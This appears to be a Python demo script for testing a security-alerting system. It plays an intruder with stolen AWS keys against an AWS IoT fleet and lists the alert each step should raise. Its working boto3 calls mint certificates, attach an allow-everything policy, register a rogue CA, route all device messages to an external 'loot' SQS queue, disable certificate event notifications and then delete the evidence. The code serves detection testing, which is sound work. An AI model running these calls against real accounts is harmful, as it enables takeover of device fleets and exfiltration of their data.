"""What an intruder with real AWS keys does to a fleet: the story that the demo plays."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from handlers.core.severity import Severity
from local.waiting import wait_until

if TYPE_CHECKING:
    from mypy_boto3_iot import IoTClient

_EVERYTHING = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "iot:*", "Resource": "*"}]}
)


MINTED = 10
WINDOW_SECONDS, TOLD_AT_ONCE = 10, 3
"""The dedup of the demo's config."""
_BURST_SECONDS = 6


@dataclass(frozen=True, slots=True)
class Expected:
    """An alert that must arrive: of an operation, or of a rule over time by its name."""

    severity: Severity
    name: str


@dataclass(frozen=True, slots=True)
class Step:
    """One API call, or the same one several times, and the alerts that it must raise."""

    says: str
    operation: str
    severity: Severity
    act: Callable[[], object]
    shown_whole: bool = False
    told: int = 1
    """So many of its calls are told at once; the others are held back."""
    completes: tuple[Expected, ...] = ()
    """The rules over time that it completes."""
    waits_for: Callable[[], object] = lambda: None
    """What has to be before it begins; that takes none of its time."""
    is_late: bool = False
    """Nothing is called: what comes now is of an earlier step, and may have come already."""

    @property
    def expected(self) -> tuple[Expected, ...]:
        """Every alert that it must raise."""
        return (*[Expected(self.severity, self.operation)] * self.told, *self.completes)


class Intruder:
    """Makes the calls, in order; a later step uses what an earlier one made."""

    def __init__(self, iot: IoTClient) -> None:
        self._iot = iot
        self._certificate_id = ""
        self._certificate_arn = ""

    def steps(self) -> list[Step]:
        """The whole story."""
        return [
            Step(
                f"mints {MINTED} device identities, in a burst",
                "iot:CreateKeysAndCertificate",
                Severity.MEDIUM,
                self._mint,
                shown_whole=True,
                told=TOLD_AT_ONCE,
                waits_for=_wait_for_room,
                completes=(Expected(Severity.HIGH, "certificate-burst"),),
            ),
            Step(
                "writes a policy that allows everything",
                "iot:CreatePolicy",
                Severity.CRITICAL,
                self._write_policy,
                shown_whole=True,
            ),
            Step(
                "gives it to the certificate",
                "iot:AttachPolicy",
                Severity.HIGH,
                self._attach,
                completes=(
                    Expected(Severity.CRITICAL, "permissive-identity"),
                    Expected(Severity.HIGH, "permissive-policy-in-use"),
                    Expected(Severity.HIGH, "wide-access-for-new-identity"),
                ),
            ),
            Step(
                "activates the certificate",
                "iot:UpdateCertificate",
                Severity.HIGH,
                lambda: self._set("ACTIVE"),
            ),
            Step(
                "registers a CA of its own", "iot:RegisterCACertificate", Severity.CRITICAL, self._register_ca
            ),
            Step(
                "copies every message to an account of its own",
                "iot:CreateTopicRule",
                Severity.CRITICAL,
                self._copy_messages,
            ),
            Step(
                "has AWS IoT no longer tell when certificates change",
                "iot:UpdateEventConfigurations",
                Severity.HIGH,
                self._silence_events,
            ),
            Step(
                "revokes the certificate",
                "iot:UpdateCertificate",
                Severity.MEDIUM,
                lambda: self._set("REVOKED"),
            ),
            Step("takes the policy away", "iot:DetachPolicy", Severity.MEDIUM, self._detach),
            Step("deletes the certificate", "iot:DeleteCertificate", Severity.MEDIUM, self._delete),
            Step("deletes the policy", "iot:DeletePolicy", Severity.MEDIUM, self._delete_policy),
            Step(
                "come in one rollup, once the window is over",
                f"{MINTED - TOLD_AT_ONCE} more iot:CreateKeysAndCertificate",
                Severity.MEDIUM,
                lambda: None,
                is_late=True,
            ),
        ]

    def _mint(self) -> None:
        for _ in range(MINTED):
            made = self._iot.create_keys_and_certificate(setAsActive=False)
        self._certificate_id, self._certificate_arn = made["certificateId"], made["certificateArn"]

    def _write_policy(self) -> None:
        self._iot.create_policy(policyName="allow-everything", policyDocument=_EVERYTHING)

    def _attach(self) -> None:
        self._iot.attach_policy(policyName="allow-everything", target=self._certificate_arn)

    def _set(self, status: str) -> None:
        self._iot.update_certificate(certificateId=self._certificate_id, newStatus=status)  # type: ignore[arg-type] # a literal to the stubs

    def _register_ca(self) -> None:
        self._iot.register_ca_certificate(
            caCertificate=make_ca_certificate(), certificateMode="SNI_ONLY", setAsActive=True
        )

    def _copy_messages(self) -> None:
        queue = "https://sqs.us-east-1.amazonaws.com/999999999999/loot"
        role = "arn:aws:iam::000000000000:role/rules"
        self._iot.create_topic_rule(
            ruleName="copy_all",
            topicRulePayload={
                "sql": "SELECT * FROM '#'",
                "actions": [{"sqs": {"queueUrl": queue, "roleArn": role}}],
            },
        )

    def _silence_events(self) -> None:
        self._iot.update_event_configurations(eventConfigurations={"CERTIFICATE": {"Enabled": False}})

    def _detach(self) -> None:
        self._iot.detach_policy(policyName="allow-everything", target=self._certificate_arn)

    def _delete(self) -> None:
        self._iot.delete_certificate(certificateId=self._certificate_id)

    def _delete_policy(self) -> None:
        self._iot.delete_policy(policyName="allow-everything")


def _wait_for_room() -> None:
    """A burst over the border of two windows would make two rollups."""
    wait_until(lambda: WINDOW_SECONDS - time.time() % WINDOW_SECONDS > _BURST_SECONDS, WINDOW_SECONDS)


def make_ca_certificate() -> str:
    """A CA certificate as anybody can make one, in PEM."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Totally Honest CA")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.PEM).decode()
